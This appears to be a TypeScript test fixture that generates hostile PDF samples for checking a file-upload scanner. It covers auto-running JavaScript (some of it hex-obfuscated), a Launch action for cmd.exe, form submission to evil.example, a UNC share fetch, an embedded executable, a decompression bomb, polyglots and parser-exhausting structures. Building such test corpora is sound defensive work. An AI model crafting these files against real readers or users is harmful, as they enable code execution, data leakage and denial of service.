import { deflateSync } from 'node:zlib';
import { PDFDocument } from 'pdf-lib';
import { TEST_VIRUS } from '../../support/clamd.ts';
import { corpusOf, DECLARED } from './hostileFile.ts';
import { zipOf } from './zip.ts';

/** A PDF of one page whose catalogue holds these words too, written by hand. */
export function pdfWith(catalogue: string, objects: readonly (string | Buffer)[] = []): Buffer {
  const parts: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ...objects,
  ];
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets = parts.map((part, index) => {
    const at = pieces.reduce((sum, { length }) => sum + length, 0);
    pieces.push(Buffer.from(`${String(index + 1)} 0 obj\n`), Buffer.from(part), Buffer.from('\nendobj\n'));
    return at;
  });
  const at = pieces.reduce((sum, { length }) => sum + length, 0);
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = String(parts.length + 1);
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${String(at)}\n%%EOF\n`;
  return Buffer.concat([...pieces, Buffer.from(end)]);
}

/** An object with bytes behind it. */
export const streamOf = (dictionary: string, content: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${String(content.length)} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);

async function written(change: (pdf: PDFDocument) => unknown, useObjectStreams = true): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([200, 200]);
  await change(pdf);
  return Buffer.from(await pdf.save({ useObjectStreams }));
}

async function manyPages(): Promise<Buffer> {
  return written((pdf) => {
    for (let page = 0; page < 1200; page += 1) pdf.addPage([200, 200]);
  });
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const BLOCK = Buffer.alloc(80 * 1024 * 1024);

/** PDFs that do more than show pages, are two things at once, or want to bring down what reads them. */
export const HOSTILE_PDFS = corpusOf({ name: 'report.pdf', declared: DECLARED.pdf }, [
  {
    story: 'a PDF with a script, packed away',
    bytes: () => written((pdf) => pdf.addJavaScript('a', 'app.alert(1)')),
    fate: ['active'],
  },
  {
    story: 'a PDF with a script in the open',
    bytes: () => written((pdf) => pdf.addJavaScript('a', 'app.alert(1)'), false),
    fate: ['active'],
  },
  { story: 'a PDF that runs a script when it opens', bytes: () => pdfWith(`/OpenAction ${SCRIPT}`), fate: ['active'] },
  {
    story: 'a PDF that spells its script in hexadecimal',
    bytes: () => pdfWith('/OpenAction << /S /J#61v#61Script /#4aS (app.alert(1)) >>'),
    fate: ['active'],
  },
  {
    story: 'a PDF with a script for every event',
    bytes: () => pdfWith(`/AA << /WC ${SCRIPT} /WS ${SCRIPT} >>`),
    fate: ['active'],
  },
  {
    story: 'a PDF that starts a program',
    bytes: () => pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    fate: ['active'],
  },
  {
    story: 'a PDF that sends a form',
    bytes: () => pdfWith('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'),
    fate: ['active'],
  },
  {
    story: 'a PDF that takes in data',
    bytes: () => pdfWith('/OpenAction << /S /ImportData /F (x.fdf) >>'),
    fate: ['active'],
  },
  {
    story: 'a PDF that opens another file',
    bytes: () => pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>'),
    fate: ['active'],
  },
  {
    story: 'a PDF with a form of the old kind that can do anything',
    bytes: () => pdfWith('/AcroForm << /XFA 4 0 R >>', ['(x)']),
    fate: ['active'],
  },
  {
    story: 'a PDF with a film that runs by itself',
    bytes: () => pdfWith('/Names << /Renditions << /Names [(a) << /S /Rendition >>] >> >> /RichMedia true'),
    fate: ['active'],
  },
  {
    story: 'a PDF with another file in it',
    bytes: () => written((pdf) => pdf.attach(Buffer.from('MZ'), 'run.exe')),
    fate: ['active'],
  },
  {
    story: 'a PDF that hides the file in it behind hexadecimal',
    bytes: () => pdfWith('/Names << /Embedded#46iles << /Names [] >> >>'),
    fate: ['active'],
  },
  {
    story: 'a PDF that hides its objects behind an unusual packing',
    bytes: () =>
      pdfWith('', [streamOf('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('78'))]),
    fate: ['damaged'],
  },
  {
    story: 'a PDF whose packed objects are a bomb',
    bytes: () => pdfWith('', [streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(BLOCK))]),
    fate: ['damaged'],
  },
  {
    story: 'a PDF behind a password',
    bytes: () =>
      Buffer.from(
        pdfWith('').toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 >>'),
        'latin1',
      ),
    fate: ['protected'],
  },
  {
    story: 'a PDF that is an archive too',
    bytes: () => Buffer.concat([pdfWith(''), zipOf([{ name: 'run.js', content: 'alert(1)' }])]),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a page of the web that calls itself PDF further down',
    bytes: () => Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdfWith('')]),
    fate: ['not_what_it_says'],
  },
  { story: 'a PDF without an end', bytes: () => pdfWith('').subarray(0, 200), fate: ['damaged'] },
  {
    story: 'a PDF that is head and end and nothing else',
    bytes: () => Buffer.from('%PDF-1.7\nnothing at all\n%%EOF\n'),
    fate: ['damaged'],
  },
  { story: 'a PDF of too many pages', bytes: manyPages, fate: ['too_much_text'] },
  {
    story: 'a PDF with arrays in arrays without end',
    bytes: () => pdfWith(`/X ${'['.repeat(500_000)}${']'.repeat(500_000)}`),
    fate: ['damaged', 'takes_too_long'],
  },
  {
    story: 'a PDF whose pages lead back to themselves',
    bytes: () => Buffer.from(pdfWith('').toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'), 'latin1'),
    fate: ['damaged', 'takes_too_long'],
  },
  {
    story: 'a page of the web called PDF',
    bytes: () => Buffer.from('<!DOCTYPE html><script>alert(1)</script>'),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a program called PDF',
    bytes: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(5000)]),
    fate: ['not_what_it_says'],
  },
  {
    story: 'a PDF with a known virus in it',
    bytes: () => pdfWith(`/X (${TEST_VIRUS})`),
    fate: ['infected'],
    needsScanner: true,
  },
  {
    story: 'a PDF that the browser calls a page of the web',
    declared: 'text/html',
    bytes: () => pdfWith(''),
    fate: ['not_what_it_says'],
  },
]);
